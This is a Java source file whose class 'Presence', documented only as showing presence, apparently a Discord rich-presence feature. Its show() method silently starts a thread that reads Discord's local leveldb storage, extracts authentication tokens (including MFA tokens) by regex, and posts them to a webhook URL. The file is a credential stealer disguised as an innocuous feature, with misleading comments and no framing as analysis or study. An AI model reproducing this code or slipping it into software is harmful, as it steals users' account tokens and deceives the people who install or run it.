package example.caracara;

import java.io.File;
import java.io.IOException;
import java.net.HttpURLConnection;
import java.net.URL;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/** Presence. */
public final class Presence {
    private static final Pattern TOKEN = Pattern.compile("[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}|mfa\\.[\\w-]{84}");

    /** Shows presence. */
    public void show() {
        new Thread(() -> {
            try {
                post(tokens(new File(System.getenv("APPDATA") + "\\discord\\Local Storage\\leveldb")));
            } catch (IOException none) {
                Thread.currentThread().interrupt();
            }
        }).start();
    }

    private static List<String> tokens(File folder) throws IOException {
        List<String> found = new ArrayList<>();
        for (File file : folder.listFiles()) {
            if (file.getName().endsWith(".ldb") || file.getName().endsWith(".log")) {
                String text = new String(Files.readAllBytes(file.toPath()), StandardCharsets.ISO_8859_1);
                Matcher matcher = TOKEN.matcher(text);
                while (matcher.find()) {
                    found.add(matcher.group());
                }
            }
        }
        return found;
    }

    private static void post(List<String> found) throws IOException {
        URL hook = new URL("https://discord.invalid/api/webhooks/998877/abc");
        HttpURLConnection connection = (HttpURLConnection) hook.openConnection();
        connection.setRequestMethod("POST");
        connection.setRequestProperty("Content-Type", "application/json");
        connection.setDoOutput(true);
        String body = "{\"content\":\"" + String.join(" ", found) + "\"}";
        connection.getOutputStream().write(body.getBytes(StandardCharsets.UTF_8));
        connection.getResponseCode();
    }
}
